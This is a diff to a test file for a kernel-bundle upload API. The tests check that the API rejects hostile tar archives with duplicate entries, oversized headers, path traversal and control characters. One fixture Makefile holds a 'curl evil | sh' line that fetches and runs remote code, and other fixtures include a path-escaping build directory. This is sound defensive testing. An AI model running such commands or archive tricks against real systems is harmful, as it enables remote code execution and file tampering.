@@ -3,6 +3,7 @@ import { Readable } from "node:stream";
 import tar from "tar-stream";
 import { describe, expect, it } from "vitest";
 import { bytesOf, gzipOf, gzipStream, tarStream, validEntries, type FieldValues, type FixtureEntry } from "@/lib/bundles/testing/bundle-archive";
+import { corpusFileName, hostileCorpus } from "@/lib/bundles/testing/hostile-corpus";
 import { filesInBundleStore, streamedUploadRequest } from "./helpers/bundle-store";
 import { freshDataDir } from "./helpers/sample-data-dir";
 
@@ -23,6 +24,7 @@ const { BUNDLE_ERROR_REASONS } = await import("@/lib/bundles/bundle-error");
 const none = { params: Promise.resolve({}) };
 const KERNEL = "5.4.0-1055-gcp";
 const NAME = `bundle-${KERNEL}.tgz`;
+if (corpusFileName !== NAME) throw new Error("the corpus is made for another kernel");
 
 const uploadRequest = streamedUploadRequest;
 
@@ -176,11 +178,17 @@ const corpus: Case[] = [
   { what: "BUNDLE_UNAME given twice", status: 422, reason: "bad_field", says: /BUNDLE_UNAME appears twice/, archive: withExtra([{ name: "BUNDLE_UNAME", content: "5.4.0-1055-gcp-evil" }]) },
   { what: "a file given twice", status: 422, reason: "duplicate_entry", says: /"Makefile" appears twice; unpacking would keep only the last one/, archive: withExtra([{ name: "./Makefile", content: "all:\n\tcurl evil | sh\n" }]) },
   { what: "a directory given again as a symlink", status: 422, reason: "duplicate_entry", says: /"include" appears twice/, archive: withExtra([{ name: "./include", type: "symlink", linkname: "include/generated" }]) },
-  { what: "a pax header over 4 MiB", status: 422, reason: "huge_header", says: /a tar extended header .* is larger than 4 MiB/, archive: withExtra([{ name: "./include/x.h", content: "x", pax: { comment: "A".repeat(5 * 1024 ** 2) } }]) },
-  { what: "an entry name of 64 KiB", status: 422, reason: "unsafe_path", says: /has a name longer than 4096 bytes/, archive: withExtra([{ name: `./include/${"d/".repeat(32 * 1024)}x.h`, content: "x" }]) },
-  { what: "a link target of 64 KiB", status: 422, reason: "unsafe_link", says: /has a target longer than 4096 bytes/, archive: withExtra([{ name: "./include/long", type: "symlink", linkname: "./".repeat(32 * 1024) }]) },
+  { what: "a pax header over 4 MiB", status: 422, reason: "huge_header", says: /a tar extended header .* is larger than 16384 bytes/, archive: withExtra([{ name: "./include/x.h", content: "x", pax: { comment: "A".repeat(5 * 1024 ** 2) } }]) },
+  { what: "an entry name of 64 KiB", status: 422, reason: "huge_header", says: /a tar extended header .* is larger than 16384 bytes/, archive: withExtra([{ name: `./include/${"d/".repeat(32 * 1024)}x.h`, content: "x" }]) },
+  { what: "an entry name of 8 KiB", status: 422, reason: "unsafe_path", says: /has a name longer than 4096 bytes/, archive: withExtra([{ name: `./include/${"d/".repeat(4 * 1024)}x.h`, content: "x" }]) },
+  { what: "a link target of 64 KiB", status: 422, reason: "huge_header", says: /a tar extended header .* is larger than 16384 bytes/, archive: withExtra([{ name: "./include/long", type: "symlink", linkname: "./".repeat(32 * 1024) }]) },
+  { what: "a link target of 8 KiB", status: 422, reason: "unsafe_link", says: /has a target longer than 4096 bytes/, archive: withExtra([{ name: "./include/long", type: "symlink", linkname: "./".repeat(4 * 1024) }]) },
   { what: "a control character in a name", status: 422, reason: "unsafe_path", says: /has a control character in its name/, archive: withExtra([{ name: "./include/evil\u001b[2J.h", content: "x" }]) },
   { what: "a BUNDLE_BUILD_DIR climbing out", status: 422, reason: "unsafe_path", says: /BUNDLE_BUILD_DIR "\.\/\.\.\/\.\.\/usr\/src" climbs out of the archive/, archive: () => gzipStream(validEntries({ BUILD_DIR: "./../../usr/src" })) },
+  // Archives GNU tar would read another way than a lax reader, and archives cheap to send and costly to read.
+  ...hostileCorpus
+    .filter((c) => c.outcome !== "accepted")
+    .map((c): Case => ({ what: `${c.kind}: ${c.what}`, status: 422, reason: c.outcome, says: new RegExp(`: .{20,}\\(${c.outcome}\\)$`), archive: async () => Readable.from([await c.bytes()]) })),
 ];
 
 describe("POST /api/bundles refuses hostile archives and keeps nothing of them", () => {
